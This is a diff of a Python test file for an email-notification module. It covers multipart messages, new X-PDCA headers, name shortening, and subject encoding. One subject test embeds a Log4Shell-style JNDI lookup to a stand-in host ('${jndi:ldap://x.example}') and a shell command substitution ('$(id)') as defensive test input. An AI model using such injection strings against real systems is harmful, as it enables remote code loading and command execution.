@@ -3,7 +3,6 @@
 import email
 import email.policy
 from email.message import EmailMessage
-from email.utils import quote
 from typing import Any
 
 import pytest
@@ -11,8 +10,8 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from pdca.errors import Failed
-from pdca.notify.lines import one_line
-from pdca.notify.mail import LONGEST_NAME, LONGEST_QUOTED, address, compose, message_id
+from pdca.notify.lines import one_line, shortened
+from pdca.notify.mail import LONGEST_NAME, address, compose, message_id, plain_text
 from pdca.store.jsontext import to_json
 from tests.unit.notify.rows import INSTALLATION, row
 
@@ -27,8 +26,10 @@ HEADERS = sorted(
         "Auto-Submitted",
         "Content-Language",
         "X-PDCA-Notification",
+        "X-PDCA-Kind",
+        "X-PDCA-Plan",
+        "X-PDCA-Person",
         "Content-Type",
-        "Content-Transfer-Encoding",
         "MIME-Version",
     ]
 )
@@ -92,8 +93,9 @@ def test_the_message_says_from_whom_to_whom_when_and_that_a_program_wrote_it() -
     assert str(message["Auto-Submitted"]) == "auto-generated"
     assert str(message["Content-Language"]) == "nl"
     assert sorted(message.keys()) == HEADERS
-    assert message.get_content_type() == "text/plain"
-    assert message.get_content_charset() == "utf-8"
+    assert message.get_content_type() == "multipart/alternative"
+    assert [part.get_content_type() for part in message.iter_parts()] == ["text/plain", "text/html"]
+    assert [part.get_content_charset() for part in message.iter_parts()] == ["utf-8", "utf-8"]
 
 
 def test_a_repeated_message_is_the_same_to_the_byte() -> None:
@@ -181,27 +183,25 @@ def test_no_name_title_or_reason_adds_a_header_or_a_recipient(
 def test_a_title_comes_out_as_it_went_in_whatever_marks_of_templates_it_holds(title: str) -> None:
     told = row("plan.advanced", parameters={"title": {"en": title}})
     message = parsed(compose(told, INSTALLATION, SENDER))
-    assert f"“{seen(one_line(title))}”" in seen(message.get_content())
+    assert f"“{seen(one_line(title))}”" in seen(plain_text(message)[1])
 
 
-@given(name=hostile.filter(lambda name: len(quote(one_line(name))) <= LONGEST_QUOTED))
+@given(name=hostile)
 @example(name='Dubois, Marc "Le Flic" (dir.)')
 @example(name="D'Hondt-Ünsal, İrem")
+@example(name='Directorate "North"; prevention, information, victims: all of it <' + "x" * 50)
 def test_the_name_comes_out_as_it_went_in(name: str) -> None:
     message = parsed(compose(row("plan.advanced", person_name=name), INSTALLATION, SENDER))
-    assert seen(message["To"].addresses[0].display_name) == seen(one_line(name))
+    assert seen(message["To"].addresses[0].display_name) == seen(shortened(one_line(name), LONGEST_NAME))
 
 
-def test_a_very_long_name_loses_the_marks_that_mail_has_a_use_for() -> None:
-    name = 'Directorate "North"; prevention, information, victims: all of it <' + "x" * 200
-    shown = compose(row("plan.advanced", person_name=name), INSTALLATION, SENDER)["To"].addresses[0].display_name
-    assert shown.startswith("Directorate North prevention information victims all of it xxx")
-    assert len(shown) <= LONGEST_NAME
+def test_a_name_is_cut_where_it_is_longer_than_any_name() -> None:
+    shown = compose(row("plan.advanced", person_name="x" * 500), INSTALLATION, SENDER)["To"].addresses[0].display_name
+    assert shown == "x" * (LONGEST_NAME - 1) + "…"
 
 
-@given(reason=hostile)
-def test_every_line_of_a_reason_is_quoted(reason: str) -> None:
-    body = compose(row("plan.advanced", parameters={"reason": reason}), INSTALLATION, SENDER).get_content()
-    plain = compose(row("plan.advanced", parameters={"reason": None}), INSTALLATION, SENDER).get_content()
-    ours = {*plain.splitlines(), "The reason given:"}
-    assert all(line.startswith(">") for line in body.splitlines() if line not in ours)
+@pytest.mark.parametrize("subject", ["P-004 {self._… : « Lancer » approuvé le 31 octobre 2024", "x" * 80, "é" * 200])
+def test_a_subject_is_never_encoded_twice(subject: str) -> None:
+    message = EmailMessage(policy=compose(row("plan.advanced"), INSTALLATION, SENDER).policy)
+    message["Subject"] = f"P-004 ${{jndi:ldap://x.example}} $(id) {subject}"
+    assert seen(str(parsed(message)["Subject"])) == seen(str(message["Subject"]))
